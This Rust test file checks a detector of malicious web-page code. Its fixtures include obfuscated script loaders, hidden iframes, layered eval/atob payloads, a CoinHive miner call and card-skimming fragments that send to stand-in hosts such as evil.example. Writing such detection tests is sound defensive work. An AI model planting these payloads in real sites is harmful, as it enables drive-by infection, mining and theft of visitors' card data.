//! Tests of malice: the cases of the list, and pages that do more than one thing.

use xuncha_model::facts::page::Origin;

use super::{list::list, *};
use crate::markup::Tokens;

fn found(text: &str) -> Vec<Malicious> {
    let url = Url::parse("https://www.lanchuan.gov.cn/").unwrap();
    let page = Given {
        url: &url,
        origin: Origin::Given,
        at: "2026-11-24T02:00:00Z".parse().unwrap(),
        status: 200,
        headers: &[],
        text,
        encoding: "UTF-8",
        declared_encoding: "",
    };
    let mut malice = Malice::of(&url);
    Tokens::new(text).for_each(|token| malice.read(token));
    malice.finish(&page)
}

#[test]
fn every_case_of_the_list_is_told_and_every_innocent_one_is_not() {
    let mut wrong = String::new();
    let cases = &list().unwrap().cases;
    for case in cases {
        for page in &case.hit {
            let found = found(page);
            let kinds: Vec<_> = found.iter().map(|it| it.kind.as_str()).collect();
            if kinds != [case.kind.as_str()] {
                wrong += &format!("{} is not told, but {kinds:?}: {page}\n", case.kind);
            }
            assert!(found.iter().all(|it| !it.title.is_empty() && !it.snippet.is_empty()));
            assert!(found.iter().all(|it| it.snippet.chars().count() <= SNIPPET), "{found:?}");
        }
        for page in &case.miss {
            let found = found(page);
            if !found.is_empty() {
                wrong += &format!("{found:?} is told of {page}\n");
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
    let count: usize = cases.iter().map(|case| case.hit.len() + case.miss.len()).sum();
    assert!(count >= 70, "{count}");
}

#[test]
fn a_hidden_address_is_told_with_its_host_and_what_it_is() {
    let page = "<script>var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveC5qcw==');</script>";
    let found = found(page);
    assert_eq!(found[0].host, "evil.example");
    assert!(found[0].snippet.ends_with("⇒ https://evil.example/x.js"), "{found:?}");
    assert_eq!(found[0].title, "隐藏真实地址的加载脚本");
}

#[test]
fn each_kind_and_host_is_told_once() {
    let frame = "<iframe src='http://evil.example/' width=0 height=0></iframe>";
    let other = "<iframe src='http://worse.example/' width=0 height=0></iframe>";
    let page = format!("{frame}{frame}{other}");
    let hosts: Vec<_> = found(&page).into_iter().map(|it| it.host).collect();
    assert_eq!(hosts, ["evil.example", "worse.example"]);
    let many: String = (0..100)
        .map(|n| format!("<iframe src='http://evil{n}.example/' width=0 height=0></iframe>"))
        .collect();
    assert_eq!(found(&many).len(), MOST);
}

#[test]
fn layers_are_undone_one_after_the_other() {
    // Base64 of code that unescapes mark-up
    let page = "<script>eval(atob('ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzY3NjcmlwdCBzcmM9Ly9ldmlsJTJlZXhhbXBsZS94LmpzJTNlJykp'))</script>";
    assert_eq!(found(page)[0].host, "evil.example");
}

#[test]
fn scripts_beyond_the_cap_are_not_looked_at() {
    let bad = "<script>var m=new CoinHive.Anonymous('k')</script>";
    let filler = format!("<script>{}</script>", "var a=1;".repeat(MOST_BYTES / 8));
    assert_eq!(found(&format!("{bad}{filler}")).len(), 1);
    assert!(found(&format!("{filler}{bad}")).is_empty());
}

#[test]
fn hostile_scripts_end() {
    let begun = std::time::Instant::now();
    for piece in [
        "eval(",
        "document.write('<iframe src=\"//",
        "p,a,c,k}('0',62,1,'",
        "atob('YXRvYg==')+",
        "unescape('%",
        "location=a;a='//b.example';",
        "fromCharCode(47,",
        "referrer baidu location='",
        "'h'+",
        "<script src=//",
        "new Image().src='//evil.example/'+",
        "('input',cvv,fetch('//",
        "userAgent spider document.write('",
    ] {
        let page = format!("<script>{}</script>", piece.repeat((1 << 19) / piece.len()));
        assert!(found(&page).len() <= MOST);
        let page = format!("<img src=x onerror=\"{}\">", piece.replace('"', "'").repeat(4_000));
        assert!(found(&page).len() <= MOST);
    }
    assert!(begun.elapsed().as_secs() < 60, "{:?}", begun.elapsed());
}
